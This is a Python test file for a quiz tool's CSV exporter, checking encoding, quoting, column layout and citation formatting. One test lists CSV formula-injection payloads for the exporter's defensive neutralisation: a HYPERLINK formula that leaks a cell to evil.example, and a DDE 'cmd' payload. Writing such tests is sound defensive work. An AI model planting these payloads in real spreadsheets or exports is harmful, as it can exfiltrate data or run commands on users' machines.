"""The CSV read back with the csv module: one row per question, every field exact despite commas, quotes and
newlines, a BOM so Excel reads UTF-8, CRLF rows."""

from __future__ import annotations

import csv
import io
from dataclasses import replace

from lms_fixtures import BANK, CITATION, COUNTS, COUNTS_BANK, NASTY, QUESTIONS

from quizgen.model.models import Bank, Quote
from quizgen.outputs.exporters.csv_export import COLUMNS, neutralise, to_csv, unneutralise


def _rows(data: bytes) -> list[dict[str, str]]:
    """The rows as a program reads them: the `'` neutralise() put before formula-like text taken off again."""
    rows = csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline=""))
    return [{k: unneutralise(v) for k, v in r.items()} for r in rows]


def test_bom_header_and_crlf():
    data = to_csv(BANK)
    assert data.startswith(b"\xef\xbb\xbfid,kind,stem,option_a,option_b,option_c,option_d,answer,")
    assert data.endswith(b"\r\n") and data.count(b"\r\n") >= len(QUESTIONS) + 1
    assert data == to_csv(BANK)


def test_one_row_per_question_with_exact_fields():
    rows = _rows(to_csv(BANK))
    assert list(rows[0]) == list(COLUMNS)
    assert len(rows) == len(QUESTIONS)
    for row, q in zip(rows, QUESTIONS, strict=True):
        assert row["id"] == q.id and row["kind"] == q.kind and row["stem"] == q.stem
        assert [row[f"option_{c}"] for c in "abcd"] == list(q.options)
        assert row["answer"] == "ABCD"[q.answer]
        assert row[f"option_{'abcd'[q.answer]}"] == q.correct
        assert row["explanation"] == q.explanation
        assert (row["citation"], row["seed"], row["passage"], row["quote"]) == (
            q.source.citation,
            q.source.text,
            q.source.passage,
            q.source.quote,
        )
        assert row["tags"].split() == list(q.tags)


def test_newlines_and_quotes_inside_fields_are_quoted():
    text = to_csv(BANK).decode("utf-8-sig")
    # A stem with newlines stays one quoted field; embedded quotes are doubled.
    assert '"$CATEGORY: not a category\nsecond line\n// not a comment"' in text
    assert '"$33 billion, ""quoted"", with commas"' in text
    assert sum(1 for _ in csv.reader(io.StringIO(text, newline=""))) == len(QUESTIONS) + 1


def test_a_subset_and_an_empty_explanation():
    rows = _rows(to_csv(BANK, QUESTIONS[3:4]))
    assert [r["id"] for r in rows] == ["plain/number-value"]
    assert rows[0]["explanation"] == "" and rows[0]["quote"] == ""


def test_formula_like_cells_are_neutralised_as_owasp_recommends():
    raw = list(csv.reader(io.StringIO(to_csv(BANK).decode("utf-8-sig"), newline="")))
    nasty = dict(zip(COLUMNS, raw[1], strict=True))
    assert nasty["option_a"] == "'=right-looking but wrong " + NASTY  # a spreadsheet shows it, never runs it
    assert nasty["option_b"] == "~tilde first"
    for cell in (c for r in raw for c in r):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_neutralise_round_trips_and_adds_one_quote_only_where_needed():
    cases = {
        "=1+1": "'=1+1",
        '=HYPERLINK("http://evil.example/?x="&A1,"click")': '\'=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
        "-2+3": "'-2+3",
        "@SUM(1+1)": "'@SUM(1+1)",
        "\tx": "'\tx",
        "\rx": "'\rx",
        "'=already quoted": "''=already quoted",
        "it's = fine": "it's = fine",
        "'plain quote": "'plain quote",
        "April 2025": "April 2025",
    }
    for text, written in cases.items():
        assert neutralise(text) == written
        assert unneutralise(written) == text


def test_an_option_e_column_only_when_a_question_has_five_and_empty_cells_past_each_questions_options():
    rows = _rows(to_csv(COUNTS_BANK))
    at = COLUMNS.index("answer")
    assert list(rows[0]) == [*COLUMNS[:at], "option_e", *COLUMNS[at:]]
    for row, q in zip(rows, COUNTS, strict=True):
        cells = [row[f"option_{c}"] for c in "abcde"]
        assert cells == [*q.options, *[""] * (5 - len(q.options))]
        assert row["answer"] == "ABCDE"[q.answer] and row[f"option_{'abcde'[q.answer]}"] == q.correct
    four_or_fewer = Bank(BANK.deck, tuple(q for q in COUNTS if len(q.options) < 5), {}, 0)
    assert list(_rows(to_csv(four_or_fewer))[0]) == list(COLUMNS)
    true_false = next(r for r in _rows(to_csv(COUNTS_BANK)) if r["id"] == "tf-false/number-tf")
    assert (true_false["option_a"], true_false["option_b"], true_false["answer"]) == ("True", "False", "B")


def test_see_also_quotes_get_quotation_marks_once():
    """Fresh user: `““Trump feared that India might …”” — Uzair Younus` when the quote had its own marks."""
    own = Quote("test-2024", "test-2024:p5", "\u201cTrump feared that India might\u2026\u201d", CITATION)
    bare = Quote("test-2024", "test-2024:p6", "Trump feared it", CITATION)
    compare = replace(QUESTIONS[4], see_also=(own, bare))
    (row,) = _rows(to_csv(BANK, (compare,)))
    assert row["see_also"] == (
        f"\u201cTrump feared that India might\u2026\u201d \u2014 {CITATION}\n\u201cTrump feared it\u201d \u2014 {CITATION}"
    )
